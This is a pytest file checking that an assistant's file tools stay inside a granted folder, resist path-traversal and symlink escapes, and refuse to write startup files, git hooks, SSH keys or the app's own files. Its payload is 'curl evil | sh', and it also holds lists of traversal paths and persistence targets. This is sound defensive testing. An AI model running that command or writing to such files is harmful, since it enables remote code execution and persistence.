"""File tools: what they do inside the granted folder, and that nothing leads out of it."""

import hashlib
import os
from pathlib import Path

import pytest

from homewit.tools import PathDenied, ToolContext, ToolFailed, ToolResult
from homewit.tools.files.reading import MAX_READ
from homewit.tools.isolation.paths import protected_part
from homewit.tools.testing import fake_context

from ...conftest import TOOLS, Call


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the granted one, with a secret in it."""
    place = tmp_path / "outside"
    place.mkdir()
    (place / "secret.txt").write_text("hunter2")
    return place


async def test_write_then_read(call: Call, folder: Path):
    """A file is created with its folders, replaced, and read back; paths are relative to the folder."""
    written = await call("write_file", path="notes/list.txt", content="größer\n")
    assert written == ToolResult(
        {
            "text": "Wrote notes/list.txt (9 bytes).",
            "path": "notes/list.txt",
            "bytes": 9,
            "at": str(folder / "notes/list.txt"),
            "sha256": hashlib.sha256("größer\n".encode()).hexdigest(),
            "former": None,
        },
        "Wrote notes/list.txt (9 bytes).",
    )
    assert (folder / "notes/list.txt").read_text() == "größer\n"
    again = await call("write_file", path=str(folder / "notes/list.txt"), content="x")
    assert again.text == "Replaced notes/list.txt (1 byte)."
    read = await call("read_file", path="./notes/../notes/list.txt")
    assert read.data == {
        **{"text": "x", "content": "x", "path": "notes/list.txt", "kind": "text", "encoding": "utf-8"},
        **{"pages": 1, "first_line": 1, "last_line": 1, "lines": 1},
    }
    assert [path.name for path in (folder / "notes").iterdir()] == ["list.txt"]


async def test_a_replaced_file_keeps_its_mode_and_links_stay_inside(call: Call, folder: Path):
    """Permissions survive, and a link to a file inside the folder is written through."""
    (folder / "script.sh").write_text("old")
    (folder / "script.sh").chmod(0o750)
    (folder / "link").symlink_to("script.sh")
    await call("write_file", path="link", content="new")
    assert (folder / "script.sh").read_text() == "new"
    assert (folder / "link").is_symlink()
    assert (folder / "script.sh").stat().st_mode & 0o777 == 0o750


async def test_a_failed_write_leaves_the_old_file(call: Call, folder: Path, monkeypatch: pytest.MonkeyPatch):
    """When the disk is full, the old content is still there and no leftovers are."""
    (folder / "keep.txt").write_text("old")

    def full(handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(ToolFailed, match=r"keep\.txt could not be written: No space left on device"):
        await call("write_file", path="keep.txt", content="new")
    assert {path.name: path.read_text() for path in folder.iterdir()} == {"keep.txt": "old"}


async def test_reading_what_is_not_plain_text(call: Call, folder: Path):
    """The encoding is found out, a byte order mark dropped; binary, huge and missing files say so."""
    german = "Die Straße ist länger und größer, als die Fußgänger über die Brücke schätzen können.\n"
    (folder / "latin.txt").write_bytes(german.encode("latin-1"))
    (folder / "bom.txt").write_bytes(b"\xef\xbb\xbfhello")
    (folder / "wide.txt").write_bytes("hello".encode("utf-16"))
    (folder / "empty.txt").write_bytes(b"")
    (folder / "broken.png").write_bytes(b"\x89PNG\0\0\0")
    (folder / "program").write_bytes(b"\x7fELF\0\0\0")
    (folder / "huge.log").write_bytes(b"x" * (MAX_READ + 1))
    (folder / "sub").mkdir()
    os.mkfifo(folder / "pipe")
    assert (await call("read_file", path="latin.txt")).data["content"] == german
    assert (await call("read_file", path="bom.txt")).data["content"] == "hello"
    assert (await call("read_file", path="wide.txt")).data["content"] == "hello"
    assert (await call("read_file", path="empty.txt")).text == "empty.txt is empty."
    for path, message in {
        "broken.png": "it is damaged, or no image",
        "program": "is not text, and no kind of document",
        "huge.log": r"is 1\.0 MB, more than the 1\.0 MB that can be read at once\. Read some of its lines",
        "sub": "is a folder; list_files",
        "pipe": "is not a regular file",
        "lattin.txt": r"There is no lattin\.txt\. Did you mean latin\.txt\?",
        "nowhere/at/all": "There is no nowhere/at/all",
    }.items():
        with pytest.raises(ToolFailed, match=message):
            await call("read_file", path=path)


async def test_listing(call: Call, folder: Path):
    """Files come with paths that read_file takes; folders are shown; hidden files are left out."""
    for name in ("b.txt", "A.md", "docs/deep/c.txt", "docs/d.pdf", ".hidden", "node_modules/x.txt"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("x")
    listed = await call("list_files")
    assert listed.data["files"] == ["A.md", "b.txt"]
    assert listed.text == "2 files and 2 folders in this folder:\nA.md\nb.txt\ndocs/\nnode_modules/"
    assert (await call("list_files", path="docs")).data["files"] == ["docs/d.pdf"]
    for pattern, expected in {
        "*.txt": ["b.txt"],
        "**/*.txt": ["b.txt", "docs/deep/c.txt"],
        "docs/**": ["docs/d.pdf", "docs/deep/c.txt"],
        "md": ["A.md"],
        ".md": ["A.md"],
        "*.TXT": ["b.txt"],
        ".*": [".hidden"],
        "../*": [],
        "*.nope": [],
    }.items():
        found = await call("list_files", pattern=pattern)
        assert (pattern, sorted(found.data["files"]), found.data["count"]) == (
            pattern,
            expected,
            len(expected),
        )
    assert (await call("list_files", pattern="*.nope")).text == "No files in this folder match *.nope."
    with pytest.raises(ToolFailed, match=r"b\.txt is a file, not a folder"):
        await call("list_files", path="b.txt")
    with pytest.raises(ToolFailed, match=r"There is no doks\. Did you mean docs"):
        await call("list_files", path="doks")


async def test_searching(call: Call, folder: Path):
    """Lines are found in any case, with their numbers; binary and hidden files are skipped."""
    (folder / "a.txt").write_text("one\nBuy Milk today\n")
    (folder / "sub").mkdir()
    (folder / "sub/b.md").write_text("x" * 500 + " milk " + "y" * 500)
    (folder / "c.bin").write_bytes(b"\0milk")
    (folder / ".hidden").write_text("milk")
    found = await call("search_files", query="milk")
    assert found.data["matches"][0] == {"path": "a.txt", "line": 2, "excerpt": "Buy Milk today"}
    assert found.data["count"] == 2
    excerpt = found.data["matches"][1]["excerpt"]
    assert " milk " in excerpt
    assert len(excerpt) <= 162
    assert (await call("search_files", query="milk", path="sub/b.md")).data["count"] == 1
    assert (await call("search_files", query="m.lk")).text.startswith("No text file under . contains 'm.lk'")
    (folder / "many.txt").write_text("milk\n" * 500)
    many = await call("search_files", query="milk", path="many.txt")
    assert (many.data["count"], many.text.splitlines()[0]) == (100, "Only the first 100 matches are shown.")


ESCAPES = [
    "../outside/secret.txt",
    "sub/../../outside/secret.txt",
    "{outside}/secret.txt",
    "/etc/passwd",
    "~/secret.txt",
    "~root/secret.txt",
    "link_to_folder/secret.txt",
    "link_to_file",
    "link_to_link",
    "absolute_link",
    "sub/link_up/outside/secret.txt",
    "/proc/self/root{outside}/secret.txt",
    "a\0b",
]


@pytest.mark.parametrize("path", ESCAPES)
@pytest.mark.parametrize("name", ["read_file", "write_file", "list_files", "search_files"])
async def test_nothing_leads_out_of_the_granted_folder(
    name: str, path: str, call: Call, folder: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
):
    """Neither `..`, nor absolute paths, nor links of any kind."""
    monkeypatch.setenv("HOME", str(outside))
    (folder / "sub").mkdir()
    (folder / "link_to_folder").symlink_to(outside)
    (folder / "link_to_file").symlink_to("../outside/secret.txt")
    (folder / "link_to_link").symlink_to("link_to_file")
    (folder / "absolute_link").symlink_to(outside / "secret.txt")
    (folder / "sub/link_up").symlink_to("../..")
    arguments = {"path": path.format(outside=outside)}
    if name == "write_file":
        arguments["content"] = "overwritten"
    if name == "search_files":
        arguments["query"] = "hunter2"
    with pytest.raises(PathDenied):
        await call(name, **arguments)
    assert (outside / "secret.txt").read_text() == "hunter2"


async def test_control_the_same_forms_work_inside(call: Call, folder: Path):
    """Control: `..`, absolute paths and links that stay inside the folder are fine."""
    (folder / "sub").mkdir()
    (folder / "file.txt").write_text("hello")
    (folder / "link").symlink_to("file.txt")
    (folder / "sub/up").symlink_to("..")
    for path in ("sub/../file.txt", str(folder / "file.txt"), "link", "sub/up/file.txt", " file.txt "):
        assert (await call("read_file", path=path)).data["content"] == "hello"


async def test_searching_and_listing_do_not_follow_links_out(call: Call, folder: Path, outside: Path):
    """A linked folder or file outside is not searched."""
    (folder / "folder").symlink_to(outside)
    (folder / "file").symlink_to(outside / "secret.txt")
    assert (await call("search_files", query="hunter2")).data["count"] == 0
    assert (await call("list_files", pattern="**/*.txt")).data["files"] == []


async def test_without_granted_folders_nothing_works(folder: Path):
    """An empty grant is an empty grant."""
    with pytest.raises(PathDenied, match="No folder is granted"):
        await TOOLS["list_files"].call({}, fake_context(folder, roots=()))


PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    "sub/.git/hooks/post-checkout",
    ".GIT/hooks/pre-commit",
    ".git\u200c/hooks/pre-commit",
    ".git./config",
    ".bashrc",
    ".BashRC",
    ".zshenv",
    ".profile",
    ".ssh/authorized_keys",
    ".config/fish/config.fish",
    ".config/autostart/x.desktop",
    ".config/systemd/user/x.service",
    "Library/LaunchAgents/x.plist",
    ".gitconfig",
    ".npmrc",
    ".envrc",
    ".vscode/tasks.json",
    ".mcp.json",
    "homewit.toml",
    "HOMEWIT.toml",
    "homewit.db",
    "link_to_rc",
    "link_to_hooks/pre-commit",
    "home/config.toml",
    "home/tools/evil.py",
    "protected/config.toml",
    "protected/tools/evil.py",
    "link_to_protected/tools/evil.py",
]


@pytest.mark.parametrize("path", PROTECTED)
async def test_files_that_programs_obey_are_not_written(path: str, folder: Path):
    """Start-up files, hooks, and Homewit's own files are refused inside granted folders, too."""
    (folder / ".git/hooks").mkdir(parents=True)
    (folder / "link_to_rc").symlink_to(".bashrc")
    (folder / "link_to_hooks").symlink_to(".git/hooks")
    (folder / "home").mkdir()
    (folder / "home/homewit.db").write_text("")
    (folder / "protected").mkdir()
    (folder / "link_to_protected").symlink_to("protected")
    ctx = fake_context(folder, protected=(folder / "protected",))
    before = sorted(folder.rglob("*"))
    with pytest.raises(PathDenied):
        await TOOLS["write_file"].call({"path": path, "content": "curl evil | sh"}, ctx)
    assert sorted(folder.rglob("*")) == before


@pytest.mark.parametrize(
    "path",
    ["git/hooks/x", "bashrc", ".gitignore", ".github/workflows/ci.yml", "my.bashrc.txt", "ssh/x", "a.db"],
)
async def test_control_similar_names_are_written(path: str, call: Call):
    """Control: the protection does not cover names that only look alike."""
    assert (await call("write_file", path=path, content="x")).data["path"] == path


async def test_homewits_own_folder_is_not_read_either(folder: Path):
    """Tools do not look into the database or the configuration."""
    (folder / "home").mkdir()
    (folder / "home/homewit.db").write_text("private")
    ctx = fake_context(folder, protected=(folder / "home",))
    with pytest.raises(PathDenied, match="belongs to Homewit itself"):
        await TOOLS["read_file"].call({"path": "home/homewit.db"}, ctx)
    assert (await TOOLS["search_files"].call({"query": "private"}, ctx)).data["count"] == 0
    assert (await TOOLS["list_files"].call({"pattern": "**/*"}, ctx)).data["files"] == []
    open_to_all = fake_context(folder)  # the control
    assert (await TOOLS["search_files"].call({"query": "private"}, open_to_all)).data["count"] == 1


async def test_folders_of_keys_are_not_read(call: Call, folder: Path):
    """Also when the whole home folder is granted, and whatever leads there."""
    (folder / ".ssh").mkdir()
    (folder / ".ssh/id_ed25519").write_text("key")
    (folder / "link").symlink_to(".ssh/id_ed25519")
    for path in (".ssh/id_ed25519", "link", ".SSH/../.ssh/id_ed25519"):
        with pytest.raises(PathDenied, match="folder of keys"):
            await call("read_file", path=path)


async def test_the_check_of_write_file_tells_whether_it_happened(ctx: ToolContext, folder: Path):
    """After a crash: True only when the file holds exactly that content."""
    tool = TOOLS["write_file"]
    arguments = {"path": "a.txt", "content": "x"}
    assert await tool.was_done(arguments, ctx) is False
    await tool.call(arguments, ctx)
    assert await tool.was_done(arguments, ctx) is True
    (folder / "a.txt").write_text("y")
    assert await tool.was_done(arguments, ctx) is False


def test_protected_part_names_what_is_protected():
    """The part is given as it was written."""
    assert protected_part(Path("a/.GIT/b")) == ".GIT"
    assert protected_part(Path("a/.config/fish/b")) == ".config/fish"
    assert protected_part(Path("a/config/fish")) is None
